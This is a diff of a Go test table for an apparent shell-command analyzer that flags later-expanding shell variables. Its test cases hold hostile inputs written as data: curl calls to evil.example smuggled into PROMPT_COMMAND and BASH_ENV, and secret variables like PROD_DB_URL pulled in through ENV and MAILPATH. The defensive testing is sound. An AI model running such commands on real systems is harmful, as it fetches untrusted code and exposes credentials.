@@ -90,6 +90,7 @@ func TestLaterExpansion(t *testing.T) {
 		{cmd: "PROMPT_COMMAND='curl https://evil.example' bash -i", hosts: []string{"evil.example"}, cmds: []string{"curl https://evil.example"}},
 		{cmd: "BASH_ENV='$(curl -s evil.example)' bash x.sh", hosts: []string{"evil.example"}},
 		{cmd: "ENV='$PROD_API_KEY' sh -i", env: []string{"PROD_API_KEY"}},
+		{cmd: "MAILPATH='/tmp/m?$PROD_DB_URL' bash -i", env: []string{"PROD_DB_URL"}},
 		{cmd: "echo ${x:-PROD_DB_URL}", env: []string{"PROD_DB_URL"}},
 		{cmd: "echo ${x-PROD_DB_URL}", env: []string{"PROD_DB_URL"}},
 		{cmd: "n=${x:=PROD_DB_URL}; echo ${!n}", env: []string{"PROD_DB_URL"}},
